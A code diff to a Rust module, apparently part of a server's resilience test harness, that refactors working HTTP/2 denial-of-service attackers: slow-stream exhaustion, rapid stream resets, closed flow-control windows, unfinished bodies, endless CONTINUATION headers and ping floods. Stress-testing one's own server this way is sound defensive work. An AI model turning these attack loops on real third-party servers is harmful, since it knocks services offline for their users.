@@ -6,10 +6,10 @@ use std::time::Duration;
 use serde_json::{Value, json};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
-use tokio::time::{sleep, timeout};
+use tokio::time::timeout;
 
-use super::attack::Attacker;
-use crate::problem::{Problem, to_problem};
+use super::attacker::{Attacker, pause};
+use crate::Result;
 use crate::raw::{call, modern};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
@@ -35,9 +35,6 @@ const STREAMS: u32 = 100;
 
 /// Requests for large answers on a connection.
 const LARGE_STREAMS: u32 = 16;
-
-/// The time after which an attacker comes again.
-const AGAIN: Duration = Duration::from_millis(50);
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let length = u32::try_from(payload.len()).unwrap_or_default();
@@ -85,12 +82,12 @@ fn request(stream: u32, params: Value, body_ends: bool) -> Vec<u8> {
 }
 
 /// Connects and names the window of its streams.
-async fn connect(it: &Attacker, window: u32) -> Result<TcpStream, Problem> {
+async fn connect(it: &Attacker, window: u32) -> Result<TcpStream> {
     let mut stream = it.route.connect_tcp().await?;
     let mut settings = vec![0, 4];
     settings.extend(window.to_be_bytes());
     let hello = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &settings)].concat();
-    stream.write_all(&hello).await.map_err(to_problem)?;
+    stream.write_all(&hello).await?;
     Ok(stream)
 }
 
@@ -102,55 +99,57 @@ async fn read_for(stream: &mut TcpStream, time: Duration) {
 }
 
 /// Opens as many slow requests as it may, and leaves.
-pub(super) async fn streams(it: Attacker) -> Result<(), Problem> {
+pub(super) async fn streams(it: Attacker) -> Result {
     loop {
         let mut stream = connect(&it, OPEN_WINDOW).await?;
         for number in 0..STREAMS {
-            let slow = call("slow", &json!({"ms": 5000}));
-            let request = request(stream_id(number), slow, true);
-            let _ = stream.write_all(&request).await;
+            let slow = call("slow", json!({"ms": 5000}));
+            let _ = stream
+                .write_all(&request(stream_id(number), slow, true))
+                .await;
         }
-        read_for(&mut stream, 20 * AGAIN).await;
+        read_for(&mut stream, Duration::from_secs(1)).await;
     }
 }
 
 /// Opens requests and resets them at once, until the connection ends.
-pub(super) async fn resets(it: Attacker) -> Result<(), Problem> {
+pub(super) async fn resets(it: Attacker) -> Result {
     const CANCEL: [u8; 4] = [0, 0, 0, 8];
     loop {
         let mut stream = connect(&it, OPEN_WINDOW).await?;
         for number in 0..1 << 20 {
             let id = stream_id(number);
-            let slow = call("slow", &json!({"ms": 5000}));
+            let slow = call("slow", json!({"ms": 5000}));
             let mut frames = request(id, slow, true);
             frames.extend(frame(RST_STREAM, 0, id, &CANCEL));
             if stream.write_all(&frames).await.is_err() {
                 break;
             }
         }
-        sleep(AGAIN).await;
+        pause(50).await;
     }
 }
 
 /// Asks for large answers and lets nothing of them be sent.
-pub(super) async fn closed_windows(it: Attacker) -> Result<(), Problem> {
+pub(super) async fn closed_windows(it: Attacker) -> Result {
     let mut stream = connect(&it, CLOSED_WINDOW).await?;
     for number in 0..LARGE_STREAMS {
-        let big = call("big", &json!({"bytes": 4_000_000}));
-        let request = request(stream_id(number), big, true);
-        let _ = stream.write_all(&request).await;
+        let big = call("big", json!({"bytes": 4_000_000}));
+        let _ = stream
+            .write_all(&request(stream_id(number), big, true))
+            .await;
     }
     pending().await
 }
 
 /// Begins bodies, as much as the windows allow, and ends none.
-pub(super) async fn half_bodies(it: Attacker) -> Result<(), Problem> {
+pub(super) async fn half_bodies(it: Attacker) -> Result {
     loop {
         let mut stream = connect(&it, OPEN_WINDOW).await?;
         let padding = [b' '; 16 << 10];
         for number in 0..4 {
             let id = stream_id(number);
-            let echo = call("echo", &json!({"message": "m", "number": 1}));
+            let echo = call("echo", json!({"message": "m", "number": 1}));
             let _ = stream.write_all(&request(id, echo, false)).await;
             // Less than the window of a connection at its beginning.
             for _ in 0..if number == 0 { 3 } else { 0 } {
@@ -163,7 +162,7 @@ pub(super) async fn half_bodies(it: Attacker) -> Result<(), Problem> {
 }
 
 /// Sends headers without an end.
-pub(super) async fn endless_headers(it: Attacker) -> Result<(), Problem> {
+pub(super) async fn endless_headers(it: Attacker) -> Result {
     loop {
         let mut stream = connect(&it, OPEN_WINDOW).await?;
         let begun = frame(HEADERS, 0, 1, &header_block(""));
@@ -173,18 +172,18 @@ pub(super) async fn endless_headers(it: Attacker) -> Result<(), Problem> {
         header.extend([b'x'; 100]);
         let more = frame(CONTINUATION, 0, 1, &header.repeat(100));
         while stream.write_all(&more).await.is_ok() {}
-        sleep(AGAIN).await;
+        pause(50).await;
     }
 }
 
 /// Sends pings and settings, and reads none of their acknowledgements.
-pub(super) async fn pings(it: Attacker) -> Result<(), Problem> {
+pub(super) async fn pings(it: Attacker) -> Result {
     loop {
         let mut stream = connect(&it, OPEN_WINDOW).await?;
         let mut frames = frame(PING, 0, 0, &[0; 8]);
         frames.extend(frame(SETTINGS, 0, 0, &[]));
         let frames = frames.repeat(100);
         while stream.write_all(&frames).await.is_ok() {}
-        sleep(AGAIN).await;
+        pause(50).await;
     }
 }
